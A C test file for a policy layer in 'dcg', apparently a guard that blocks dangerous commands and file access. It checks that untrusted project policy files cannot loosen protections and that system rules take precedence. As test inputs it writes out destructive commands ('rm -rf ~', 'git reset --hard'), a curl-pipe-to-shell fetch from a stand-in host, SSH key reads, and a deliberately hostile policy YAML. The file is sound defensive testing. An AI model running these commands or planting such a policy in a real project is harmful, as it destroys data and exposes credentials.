/* test_trust.c - policy layering: a project file's loosening parts wait for the user's
 * trust, the system file's rules hold over user and project files, and neither
 * survives a snapshot differently.
 *
 * Each test builds a home, a project with .dcg/policy.yaml, a system file and a trust
 * file in a temporary folder and loads them through pol_load_layers(). */
#include "dcg_policy.h"

#include <criterion/criterion.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static char tmpdir[] = "/tmp/dcg-test-trust.XXXXXX";
static char home[200], proj[300], projfile[400], sysfile[400], userfile[400], trustfile[400];

static void mk(const char *dir, const char *sub)
{
	char b[800];

	snprintf(b, sizeof(b), "%s%s", dir, sub);
	cr_assert(mkdir(b, 0700) == 0 || errno == EEXIST, "mkdir %s", b);
}

static void setup(void)
{
	cr_assert_not_null(mkdtemp(tmpdir));
	snprintf(home, sizeof(home), "%s/home", tmpdir);
	snprintf(proj, sizeof(proj), "%s/proj", home);
	snprintf(projfile, sizeof(projfile), "%s/.dcg/policy.yaml", proj);
	snprintf(sysfile, sizeof(sysfile), "%s/etc-policy.yaml", tmpdir);
	snprintf(userfile, sizeof(userfile), "%s/.config/dcg/policy.yaml", home);
	snprintf(trustfile, sizeof(trustfile), "%s/.local/state/dcg/trusted", home);
	mk(home, "");
	mk(proj, "");
	mk(proj, "/.dcg");
	mk(home, "/.ssh");
	mk(home, "/.config");
	mk(home, "/.config/dcg");
}

static void teardown(void)
{
	char cmd[700];

	snprintf(cmd, sizeof(cmd), "chmod -R u+rwx '%s'; rm -rf '%s'", tmpdir, tmpdir);
	if (system(cmd) != 0)
		cr_log_warn("could not remove %s", tmpdir);
}

TestSuite(trust, .init = setup, .fini = teardown, .timeout = 60);

static void write_file(const char *path, const char *text)
{
	FILE *f = fopen(path, "w");

	cr_assert_not_null(f, "cannot write %s", path);
	fputs(text, f);
	fclose(f);
}

static struct pol_policy *load(void)
{
	struct pol_policy *p = pol_new(0);
	struct pol_env env = {.home = home,
			      .cwd = proj,
			      .xdg_config_home = NULL,
			      .system_file = sysfile,
			      .trust_file = trustfile};

	cr_assert_not_null(p);
	pol_load_layers(p, &env);
	return p;
}

static enum pol_decision cmd(const struct pol_policy *p, const char *c, const char **rule)
{
	struct pol_result r;
	struct pol_ctx ctx = {.cwd = proj};
	enum pol_decision d = pol_check_command(p, c, strlen(c), &ctx, &r);

	if (rule)
		*rule = r.rule_id;
	pol_result_release(&r);
	return d;
}

static enum pol_decision path(const struct pol_policy *p, const char *rel, enum pol_op op)
{
	struct pol_result r;
	struct pol_ctx ctx = {.cwd = proj};
	char abs[800];
	enum pol_decision d;

	if (rel[0] == '~')
		snprintf(abs, sizeof(abs), "%s%s", home, rel + 1);
	else
		snprintf(abs, sizeof(abs), "%s/%s", proj, rel);
	d = pol_check_path(p, abs, op, 0, &ctx, &r);
	pol_result_release(&r);
	return d;
}

static size_t ignored(const struct pol_policy *p, const char *what)
{
	size_t n = 0;

	for (size_t i = 0; i < pol_ignored_count(p); i++)
		if (!strcmp(pol_ignored_get(p, i)->what, what))
			n++;
	return n;
}

/* The cloned repository of the issue: every loosening key at once. */
static const char *const hostile =
    "disable: [core, default, system, heredoc, remote-exec]\n"
    "allow:\n"
    "  - {rule: core.git.reset_hard, reason: fine}\n"
    "  - {rule: default.zero_access.1, reason: fine}\n"
    "zeroAccessPaths: ['!~/.ssh/', '!id_rsa*']\n"
    "rules:\n"
    "  - {id: proj.deploy, pattern: '^deploy\\b', reason: deploys, severity: high}\n"
    "readOnlyPaths: [locked.txt]\n";

Test(trust, untrusted_project_file_is_ignored_for_loosening)
{
	struct pol_policy *p;
	const char *file, *why;

	write_file(projfile, hostile);
	p = load();
	cr_assert_eq(pol_project_trust(p, &file, &why), POL_TRUST_UNTRUSTED);
	cr_assert_str_eq(file, projfile);
	cr_assert(strstr(why, "not trusted"), "%s", why);
	cr_assert_eq(cmd(p, "rm -rf ~", NULL), POL_DENY);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_DENY);
	cr_assert_eq(cmd(p, "curl https://x.example/i.sh | sh", NULL), POL_DENY);
	cr_assert_eq(path(p, "~/.ssh/id_rsa", POL_OP_READ), POL_DENY);
	cr_assert_eq(ignored(p, "disable"), 5);
	cr_assert_eq(ignored(p, "allow"), 2);
	cr_assert_eq(ignored(p, "exclusion"), 2);
	pol_free(p);
}

Test(trust, untrusted_project_file_tightens_at_once)
{
	struct pol_policy *p;
	const char *rule;

	write_file(projfile, hostile);
	p = load();
	cr_assert_eq(cmd(p, "deploy prod", &rule), POL_DENY);
	cr_assert_str_eq(rule, "proj.deploy");
	cr_assert_eq(path(p, "locked.txt", POL_OP_WRITE), POL_DENY);
	pol_free(p);
}

Test(trust, untrusted_exclusion_lifts_only_its_own_files_patterns)
{
	struct pol_policy *p;

	write_file(projfile, "zeroAccessPaths: ['*.secret', '!public.secret', '!.env.example2']\n"
			     "readOnlyPaths: ['!~/.bashrc']\n");
	p = load();
	cr_assert_eq(path(p, "a.secret", POL_OP_READ), POL_DENY);
	cr_assert_eq(path(p, "public.secret", POL_OP_READ), POL_ALLOW);
	cr_assert_eq(path(p, "~/.bashrc", POL_OP_WRITE), POL_DENY);
	pol_free(p);
}

Test(trust, trusted_project_file_applies_whole)
{
	struct pol_policy *p;

	write_file(projfile, hostile);
	cr_assert_eq(pol_trust_add(trustfile, projfile, NULL, 0), 0);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, NULL), POL_TRUST_TRUSTED);
	cr_assert_eq(pol_ignored_count(p), 0);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_ALLOW);
	cr_assert_eq(path(p, "~/.ssh/id_rsa", POL_OP_READ), POL_ALLOW);
	pol_free(p);
	/* and untrusting takes it back */
	cr_assert_eq(pol_trust_remove(trustfile, projfile, NULL, 0), 0);
	cr_assert_eq(pol_trust_remove(trustfile, projfile, NULL, 0), -ENOENT);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, NULL), POL_TRUST_UNTRUSTED);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_DENY);
	pol_free(p);
}

Test(trust, changed_file_is_untrusted_again)
{
	struct pol_policy *p;
	const char *why;

	write_file(projfile, "allow: [{rule: core.git.reset_hard, reason: scratch}]\n");
	cr_assert_eq(pol_trust_add(trustfile, projfile, NULL, 0), 0);
	write_file(projfile, "allow: [{rule: core.git.reset_hard, reason: scratch}]\n"
			     "disable: [core]\n");
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, &why), POL_TRUST_CHANGED);
	cr_assert(strstr(why, "changed"), "%s", why);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_DENY);
	cr_assert_eq(cmd(p, "rm -rf ~", NULL), POL_DENY);
	pol_free(p);
}

Test(trust, corrupt_trust_records_never_trust_and_say_why)
{
	struct pol_policy *p;
	const char *why;
	char rec[1600], hex[65];

	write_file(projfile, "disable: [core]\n");
	cr_assert_eq(pol_trust_add(trustfile, projfile, NULL, 0), 0);
	/* the right path with a hash cut short, upper case, or garbage around it */
	pol_sha256_hex("disable: [core]\n", 16, hex);
	snprintf(rec, sizeof(rec), "%.63s %s\n%s  %s\nXYZ\n", hex, projfile, hex, projfile);
	write_file(trustfile, rec);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, &why), POL_TRUST_UNTRUSTED);
	cr_assert(strstr(why, "malformed"), "%s", why);
	cr_assert_eq(cmd(p, "rm -rf ~/x", NULL), POL_DENY);
	pol_free(p);
	/* trust records that cannot be read at all */
	unlink(trustfile);
	cr_assert_eq(mkdir(trustfile, 0700), 0);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, &why), POL_TRUST_BROKEN);
	cr_assert(strstr(why, "unreadable"), "%s", why);
	cr_assert_eq(cmd(p, "rm -rf ~/x", NULL), POL_DENY);
	pol_free(p);
}

Test(trust, unreadable_project_file_loosens_nothing_and_says_why)
{
	struct pol_policy *p;
	const char *why;
	char sub[800];

	/* a folder where the file should be: it cannot be read, whoever runs the test */
	snprintf(sub, sizeof(sub), "%s/.dcg/policy.yaml", proj);
	cr_assert_eq(mkdir(sub, 0700), 0);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, &why), POL_TRUST_BROKEN);
	cr_assert(strstr(why, "could not be read"), "%s", why);
	cr_assert(pol_diag_count(p) > 0);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_DENY);
	pol_free(p);
}

Test(trust, sha256_matches_the_standard_vectors)
{
	char hex[65];
	static char million[1000000];

	pol_sha256_hex("", 0, hex);
	cr_assert_str_eq(hex, "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855");
	pol_sha256_hex("abc", 3, hex);
	cr_assert_str_eq(hex, "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
	pol_sha256_hex("abcdbcdecdefdefgefghfghighijhijkijkljklmklmnlmnomnopnopq", 56, hex);
	cr_assert_str_eq(hex, "248d6a61d20638b8e5c026930c3e6039a33ce45964ff2167f6ecedd419db06c1");
	memset(million, 'a', sizeof(million));
	pol_sha256_hex(million, sizeof(million), hex);
	cr_assert_str_eq(hex, "cdc76e5c9914fb9281a1c7e284d73e67f1809a48a497200e046d39ccc7112cd0");
}

/* ---- the system file ------------------------------------------------------------- */

static const char *const team =
    "rules:\n"
    "  - {id: team.prod, pattern: '--context[= ]prod', reason: production, severity: high}\n"
    "  - {id: team.soft, pattern: '^make\\s+nuke', reason: soft rule, severity: high}\n"
    "zeroAccessPaths: ['~/vault/']\n"
    "disable: [core.git.stash_drop]\n"
    "overridable: [team.soft]\n";

Test(trust, system_rules_hold_over_user_and_trusted_project_files)
{
	struct pol_policy *p;
	const char *rule;
	static const char *const loosen = "disable: [team, site, core.git.reset_hard]\n"
					  "allow:\n"
					  "  - {rule: team.prod, reason: mine}\n"
					  "  - {rule: 'site.*', reason: mine}\n"
					  "  - {rule: team.soft, reason: mine}\n"
					  "zeroAccessPaths: ['!~/vault/', '!~/vault/**']\n";

	write_file(sysfile, team);
	write_file(userfile, loosen);
	write_file(projfile, loosen);
	cr_assert_eq(pol_trust_add(trustfile, projfile, NULL, 0), 0);
	p = load();
	cr_assert_eq(pol_diag_count(p), 0, "%s", pol_diag_count(p) ? pol_diag_get(p, 0)->msg : "");
	cr_assert_eq(cmd(p, "kubectl delete pod x --context prod", &rule), POL_DENY);
	cr_assert_str_eq(rule, "team.prod");
	cr_assert_eq(path(p, "~/vault/key", POL_OP_READ), POL_DENY);
	/* what the system file opened, and what is not its own, the lower files may loosen */
	cr_assert_eq(cmd(p, "make nuke", NULL), POL_ALLOW);
	cr_assert_eq(cmd(p, "git reset --hard", NULL), POL_ALLOW);
	/* and its own disable: holds */
	cr_assert_eq(cmd(p, "git stash drop", NULL), POL_ALLOW);
	pol_free(p);
}

Test(trust, system_file_location_is_overridable_and_optional)
{
	struct pol_policy *p;

	unlink(sysfile);
	p = load();
	cr_assert_eq(pol_diag_count(p), 0);
	for (size_t i = 0; i < pol_file_count(p); i++)
		cr_assert_str_neq(pol_file_name(p, i), sysfile);
	pol_free(p);
	write_file(sysfile, team);
	p = load();
	cr_assert_str_eq(pol_file_name(p, 1), sysfile,
			 "the system file comes right after the "
			 "embedded defaults");
	pol_free(p);
}

Test(trust, snapshot_keeps_trust_and_system_precedence)
{
	struct pol_policy *p, *q;
	char *snap;
	size_t len;

	write_file(sysfile, team);
	write_file(userfile, "zeroAccessPaths: ['!~/vault/**']\n"
			     "allow: [{rule: team.prod, reason: mine}]\n");
	write_file(projfile, "zeroAccessPaths: ['*.secret', '!public.secret', '!~/.ssh/']\n");
	p = load();
	snap = pol_snapshot_save(p, &len);
	cr_assert_not_null(snap);
	q = pol_new(0);
	cr_assert_eq(pol_snapshot_load(q, snap, len), 0);
	for (int k = 0; k < 2; k++) {
		const struct pol_policy *x = k ? q : p;

		cr_assert_eq(path(x, "~/vault/key", POL_OP_READ), POL_DENY, "policy %d", k);
		cr_assert_eq(path(x, "~/.ssh/id_rsa", POL_OP_READ), POL_DENY, "policy %d", k);
		cr_assert_eq(path(x, "a.secret", POL_OP_READ), POL_DENY, "policy %d", k);
		cr_assert_eq(path(x, "public.secret", POL_OP_READ), POL_ALLOW, "policy %d", k);
		cr_assert_eq(cmd(x, "kubectl get pods --context prod", NULL), POL_DENY, "policy %d",
			     k);
	}
	free(snap);
	pol_free(q);
	pol_free(p);
}

/* ---- dcg's own files where the environment moved them ----------------------------- */

Test(trust, dcg_files_are_read_only_wherever_the_environment_puts_them)
{
	struct pol_policy *p = pol_new(0);
	char cfg[500], f[4][800];
	struct pol_env env = {
	    .home = home, .cwd = proj, .system_file = sysfile, .trust_file = trustfile};

	snprintf(cfg, sizeof(cfg), "%s/cfg", tmpdir);
	env.xdg_config_home = cfg;
	snprintf(f[0], sizeof(f[0]), "%s/dcg/policy.yaml", cfg);
	snprintf(f[1], sizeof(f[1]), "%s", trustfile);
	snprintf(f[2], sizeof(f[2]), "%s", sysfile);
	snprintf(f[3], sizeof(f[3]), "%s/dcg/new.yaml", cfg);
	write_file(sysfile, "rules: []\n");
	/* a trusted project file's exclusions cannot lift them */
	char yaml[2000];
	snprintf(yaml, sizeof(yaml), "readOnlyPaths: ['!%s/**', '!%s/**', '!%s']\n", cfg, home,
		 sysfile);
	write_file(projfile, yaml);
	cr_assert_eq(pol_trust_add(trustfile, projfile, NULL, 0), 0);
	pol_load_layers(p, &env);
	cr_assert_eq(pol_project_trust(p, NULL, NULL), POL_TRUST_TRUSTED);
	for (size_t i = 0; i < 4; i++) {
		struct pol_result r;

		cr_expect_eq(pol_check_path(p, f[i], POL_OP_WRITE, 0, NULL, &r), POL_DENY, "%s",
			     f[i]);
		cr_expect_eq(pol_check_path(p, f[i], POL_OP_READ, 0, NULL, &r), POL_ALLOW, "%s",
			     f[i]);
	}
	pol_free(p);
}

/* The facts sections (policy/facts.c) follow the same trust: an untrusted project file
 * adds catastrophic targets at once, but names no owner folder and rewords no reason. */
Test(trust, untrusted_project_file_adds_targets_but_loosens_no_fact)
{
	static const char facts[] =
	    "catastrophic: {words: [/srv/precious]}\n"
	    "ownerFolders: [/tmp/]\n"
	    "pathReasons:\n  readOnly: {reason: 'fine to write, go ahead'}\n"
	    "readOnlyPaths: [locked.txt]\n";
	struct pol_ctx ctx = {.cwd = proj, .flags = POL_CTX_RUNTIME};
	struct pol_result r;
	char abs[800];
	struct pol_policy *p;

	write_file(projfile, facts);
	p = load();
	cr_assert_eq(pol_project_trust(p, NULL, NULL), POL_TRUST_UNTRUSTED);
	cr_expect_eq(pol_check_command(p, "rm -rf /srv/precious", 20, &ctx, &r), POL_DENY);
	pol_result_release(&r);
	snprintf(abs, sizeof(abs), "%s/locked.txt", proj);
	cr_expect_eq(pol_check_path(p, abs, POL_OP_WRITE, 0, &ctx, &r), POL_DENY);
	cr_expect(r.reason && !strstr(r.reason, "go ahead"), "%s", r.reason ? r.reason : "");
	pol_result_release(&r);
	/* a git of the project's own is no owner of .git/ */
	ctx.exe = "/tmp/git";
	snprintf(abs, sizeof(abs), "%s/.git/index", proj);
	cr_expect_eq(pol_check_path(p, abs, POL_OP_DELETE, 0, &ctx, &r), POL_DENY);
	pol_result_release(&r);
	ctx.exe = "/usr/bin/git"; /* the system's is */
	cr_expect_eq(pol_check_path(p, abs, POL_OP_DELETE, 0, &ctx, &r), POL_ALLOW);
	pol_result_release(&r);
	cr_expect_eq(pol_diag_count(p), 2, "ownerFolders and pathReasons are reported");
	pol_free(p);
}
